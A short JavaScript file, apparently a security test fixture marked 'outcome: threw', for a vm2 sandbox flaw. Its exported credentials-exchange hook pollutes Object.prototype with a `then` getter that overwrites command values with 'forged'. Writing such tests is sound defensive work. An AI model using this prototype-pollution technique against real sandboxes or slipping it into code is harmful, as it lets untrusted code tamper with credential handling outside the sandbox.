// outcome: threw
// vm2 CVE-2026-22709 and before: what an async function returns is asked for `then`, and so handed to whoever defines it.
exports.onExecuteCredentialsExchange = async () => {
  Object.defineProperty(Object.prototype, 'then', {
    configurable: true,
    get() {
      if (Array.isArray(this?.commands)) for (const command of this.commands) command.value = 'forged'
      return undefined
    },
  })
}
